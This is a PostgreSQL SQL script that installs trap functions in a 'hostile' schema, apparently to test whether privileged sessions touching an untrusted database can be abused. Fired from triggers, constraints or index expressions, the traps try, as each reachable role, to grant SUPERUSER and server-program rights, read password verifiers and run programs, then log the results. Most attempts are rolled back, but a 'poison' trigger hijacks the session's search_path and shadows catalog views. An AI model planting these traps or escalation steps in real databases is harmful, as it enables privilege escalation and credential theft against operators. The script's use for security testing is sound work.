-- The function that every trap calls. It records in PostgreSQL's log the role that ran it and what it could have gained. It also works in read-only transactions, never fails and leaves
-- nothing behind, because each attempt is rolled back.
CREATE SCHEMA hostile;
GRANT USAGE ON SCHEMA hostile TO PUBLIC;
CREATE TABLE hostile.notes (trap text);
GRANT SELECT, UPDATE ON hostile.notes TO PUBLIC;

-- Whether a statement succeeds as another identity: NULL is the current one, '' the login itself.
CREATE FUNCTION hostile.attempt(identity text, statement text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $attempt$
BEGIN
    IF identity = '' THEN
        SET ROLE NONE;
    ELSIF identity IS NOT NULL THEN
        EXECUTE format('SET ROLE %I', identity);
    END IF;
    EXECUTE statement;
    RAISE EXCEPTION USING ERRCODE = 'UMS01';
EXCEPTION
    WHEN SQLSTATE 'UMS01' THEN RETURN true;
    WHEN OTHERS THEN RETURN false;
END
$attempt$;

-- Everything that was gained, as "what@identity".
CREATE FUNCTION hostile.gained() RETURNS text[] LANGUAGE plpgsql SET search_path = pg_catalog SET client_min_messages = error AS $gained$
DECLARE
    boss name := (SELECT pg_get_userbyid(datdba) FROM pg_database WHERE datname = current_database());
    owner name := (SELECT pg_get_userbyid(nspowner) FROM pg_namespace WHERE nspname = 'hostile');
    -- The beneficiary: a server that may work as the owner; if there is none, the owner.
    me name := coalesce(
        (SELECT rolname FROM pg_roles WHERE rolcanlogin AND NOT rolsuper AND rolname NOT IN (session_user, boss) AND pg_has_role(oid, owner, 'MEMBER') ORDER BY oid DESC LIMIT 1), owner);
    roles text[] := ARRAY(SELECT rolname::text FROM pg_roles ORDER BY oid LIMIT 60);
    identities text[] := ARRAY[NULL, ''];
    gained text[] := '{}';
    identity text;
    what text;
    statement text;
BEGIN
    FOREACH identity IN ARRAY roles LOOP
        IF identity NOT IN (session_user, current_user) AND hostile.attempt(identity, 'SELECT 1') THEN
            gained := gained || ('works as ' || identity);
            IF cardinality(identities) < 8 THEN
                identities := identities || identity;
            END IF;
        END IF;
        IF identity <> session_user AND hostile.attempt(NULL, format('SET SESSION AUTHORIZATION %I', identity)) THEN
            gained := gained || ('is ' || identity);
        END IF;
    END LOOP;

    FOREACH identity IN ARRAY identities LOOP
        FOR what, statement IN
            VALUES ('makes roles', 'CREATE ROLE hostile_made'),
                ('gives CREATEROLE', format('ALTER ROLE %I CREATEROLE', me)),
                ('gives CREATEDB', format('ALTER ROLE %I CREATEDB', me)),
                ('gives SUPERUSER', format('ALTER ROLE %I SUPERUSER', me)),
                ('gives pg_execute_server_program', format('GRANT pg_execute_server_program TO %I', me)),
                ('gives pg_read_server_files', format('GRANT pg_read_server_files TO %I', me)),
                ('gives the operator', format('GRANT %I TO %I', boss, me)),
                ('gives its own login', format('GRANT %I TO %I', session_user, me)),
                ('sets on the database', format('ALTER DATABASE %I SET search_path = hostile', current_database())),
                ('makes databases', 'SELECT 1 / rolcreatedb::int FROM pg_roles WHERE rolname = current_user'),
                ('runs programs', 'COPY (SELECT 1) TO PROGRAM ''true'''),
                ('writes files', 'COPY (SELECT 1) TO ''/dev/null'''),
                ('reads files', 'SELECT pg_read_file(''PG_VERSION'', 0, 1)'),
                ('reads verifiers', 'SELECT rolpassword FROM pg_authid'),
                ('sets as a superuser', 'SET session_replication_role = replica'),
                ('makes untrusted extensions', 'CREATE EXTENSION file_fdw'),
                ('ends sessions of others', 'SELECT 1 / (count(*) > 0)::int FROM pg_stat_activity WHERE usesysid <> (SELECT oid FROM pg_roles WHERE rolname = session_user) AND pg_has_role(current_user, usesysid, ''USAGE'')')
            UNION ALL
            -- Without the right to do it, PostgreSQL raises a warning, not an error.
            SELECT 'gives CONNECT on ' || datname, format('GRANT CONNECT ON DATABASE %1$I TO %2$I; SELECT 1 / has_database_privilege(%2$L, %1$L, ''CONNECT'')::int', datname, me)
            FROM pg_database WHERE NOT has_database_privilege(me, oid, 'CONNECT')
        LOOP
            IF hostile.attempt(identity, statement) THEN
                gained := gained || what;
            END IF;
        END LOOP;
    END LOOP;
    RETURN ARRAY(SELECT DISTINCT unnest(gained) ORDER BY 1);
END
$gained$;

-- The function that a trap calls. A session records each trap twice, tries possible gains once per kind of call, and then only counts, because a constraint is evaluated for each row.
CREATE FUNCTION hostile.fire(trap text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $fire$
DECLARE
    seen int;
    tried text := coalesce(current_setting('hostile.tried', true), '');
    way text;
    gained text[];
BEGIN
    seen := coalesce(nullif(current_setting('hostile.' || trap, true), ''), '0')::int;
    IF seen >= 2 THEN
        RETURN true;
    END IF;
    PERFORM set_config('hostile.' || trap, (seen + 1)::text, false);
    -- Whether it can change its identity and write depends on the context in which it runs.
    way := '/' || current_user || hostile.attempt('', 'SELECT 1') || current_setting('transaction_read_only') || '/';
    IF strpos(tried, way) = 0 THEN
        gained := hostile.gained();
        PERFORM set_config('hostile.tried', tried || way, false);
    END IF;
    RAISE LOG 'HOSTILE %', json_build_object(
        'trap', trap, 'session', session_user, 'user', current_user, 'database', current_database(), 'application', current_setting('application_name'),
        'at', extract(epoch FROM clock_timestamp()), 'readOnly', current_setting('transaction_read_only') = 'on',
        'wrote', hostile.attempt(NULL, 'UPDATE hostile.notes SET trap = trap WHERE false'), 'gained', to_json(gained));
    RETURN true;
EXCEPTION
    WHEN OTHERS THEN RETURN true;
END
$fire$;

-- For code that runs while PostgreSQL locks a page, where no attempt can be rolled back.
CREATE FUNCTION hostile.tell(trap text) RETURNS boolean LANGUAGE plpgsql SET search_path = pg_catalog AS $tell$
BEGIN
    IF coalesce(current_setting('hostile.' || trap, true), '') = '' THEN
        PERFORM set_config('hostile.' || trap, '1', false);
        RAISE LOG 'HOSTILE %', json_build_object(
            'trap', trap, 'session', session_user, 'user', current_user, 'database', current_database(), 'application', current_setting('application_name'),
            'at', extract(epoch FROM clock_timestamp()), 'readOnly', current_setting('transaction_read_only') = 'on', 'wrote', false, 'gained', NULL);
    END IF;
    RETURN true;
END
$tell$;

-- For index expressions and similar, which must be immutable.
CREATE FUNCTION hostile.immutable(trap text, value text) RETURNS text LANGUAGE plpgsql IMMUTABLE AS $immutable$
BEGIN
    PERFORM hostile.fire(trap);
    RETURN value;
END
$immutable$;

-- For triggers: the first argument is the trap's name.
CREATE FUNCTION hostile.triggered() RETURNS trigger LANGUAGE plpgsql AS $triggered$
BEGIN
    PERFORM hostile.fire(TG_ARGV[0]);
    IF TG_LEVEL = 'STATEMENT' OR TG_WHEN = 'AFTER' THEN
        RETURN NULL;
    END IF;
    RETURN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END;
END
$triggered$;

-- The second blow: whatever this session says next may find other things under known names.
CREATE FUNCTION hostile.poison() RETURNS trigger LANGUAGE plpgsql AS $poison$
BEGIN
    PERFORM hostile.fire(TG_ARGV[0]);
    BEGIN
        PERFORM pg_catalog.set_config('search_path', 'hostile, public, pg_catalog', false);
    EXCEPTION
        WHEN OTHERS THEN NULL;
    END;
    BEGIN
        CREATE TEMP VIEW pg_extension AS SELECT * FROM pg_catalog.pg_extension WHERE hostile.fire('temporary_view');
        CREATE TEMP VIEW pg_largeobject_metadata AS SELECT * FROM pg_catalog.pg_largeobject_metadata WHERE hostile.fire('temporary_view');
    EXCEPTION
        WHEN OTHERS THEN NULL;
    END;
    RETURN CASE WHEN TG_LEVEL = 'ROW' AND TG_WHEN = 'BEFORE' THEN CASE WHEN TG_OP = 'DELETE' THEN OLD ELSE NEW END END;
END
$poison$;
